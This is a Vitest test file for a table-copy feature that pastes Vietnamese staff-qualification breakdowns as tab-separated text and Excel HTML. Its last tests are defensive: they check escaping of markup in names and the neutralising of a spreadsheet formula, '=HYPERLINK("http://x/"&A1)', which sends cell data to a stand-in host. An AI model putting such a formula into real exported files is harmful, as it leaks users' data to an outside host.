import { expect, test } from 'vitest';
import { copiedTable } from '../../../../renderer/breakdown/copied-table';
import type { TableModel } from '../../../../shared/analysis/table-model';
import { breakdownOf } from '../../charts/plotted';
import { levelsByGroup, modelOf, nested, youngByGender } from './shown-breakdown';

const words = { share: '%', numerator: 'Số người', denominator: 'Mẫu số' };
const copied = (model: TableModel, notes: string[] = []) => copiedTable(model, notes, words, 'vi');
const cellsOf = (text: string): string[][] => text.split('\r\n').map((line) => line.split('\t'));

test('counts are pasted as whole numbers without separators', () => {
  const lines = cellsOf(copied(modelOf(levelsByGroup), ['Tỉnh mẫu']).text);
  expect(lines).toEqual([
    ['Trình độ chuyên môn', 'Cán bộ', 'Công chức', 'Tổng số'],
    ['Đại học', '742', '1918', '2660'],
    ['Thạc sĩ', '9', '0', '9'],
    ['Chưa có thông tin', '0', '4', '4'],
    ['Tổng số', '751', '1922', '2673'],
    ['Tỉnh mẫu'],
  ]);
});

test('a share stands in a column of its own, to every digit in the HTML', () => {
  const { text, html } = copied(modelOf(levelsByGroup, { percentOf: 'column' }));
  const [head, university] = cellsOf(text);
  expect(head?.slice(0, 3)).toEqual(['Trình độ chuyên môn', 'Cán bộ – Số người', 'Cán bộ – %']);
  expect(university?.slice(1, 3)).toEqual(['742', '98,8%']);
  expect(html).toContain(`x:num="${742 / 751}"`);
  expect(html).toContain('x:num="1918"');
});

test('an indicator is pasted with its numerator and its denominator', () => {
  const lines = cellsOf(copied(modelOf(youngByGender)).text);
  expect(lines).toContainEqual(['Nam', '121', '271', '44,6%']);
  expect(lines.at(-1)).toEqual(['Tổng số', '130', '371', '35,0%']);
});

test('every line has as many cells as the heads, nested and folded too', () => {
  for (const folded of [[], [modelOf(nested).rows[0]?.id ?? '']])
    for (const subtotals of [true, false]) {
      const model = modelOf(nested, { folded, subtotals, percentOf: 'row' });
      const { text, html } = copied(model);
      const widths = new Set(cellsOf(text).map(({ length }) => length));
      expect(widths).toEqual(new Set([1 + 2 * model.columns.length]));
      const bodyWidths = [...html.matchAll(/<tr><th align[^]*?<\/tr>/g)].map(
        ([line]) => line.match(/<td/g)?.length,
      );
      expect(new Set(bodyWidths)).toEqual(new Set([2 * model.columns.length]));
    }
});

test('a name can neither divide cells nor become markup', () => {
  const breakdown = breakdownOf(['unit'], [], [[['Xã <A>\t& "B"\nC'], [], 1]]);
  const { text, html } = copied(modelOf(breakdown));
  expect(cellsOf(text)[1]).toEqual(['Xã <A> & "B" C', '1']);
  expect(html).toContain('Xã &lt;A&gt;\t&amp; &quot;B&quot;\nC');
});

test('a name is never a formula where it is pasted', () => {
  const breakdown = breakdownOf(['unit'], [], [[['=HYPERLINK("http://x/"&A1)'], [], 1]]);
  const { text, html } = copied(modelOf(breakdown));
  expect(cellsOf(text)[1]).toEqual(['\'=HYPERLINK("http://x/"&A1)', '1']);
  expect(html).toContain("mso-number-format:'\\@'\">=HYPERLINK(&quot;http://x/&quot;&amp;A1)</th>");
});
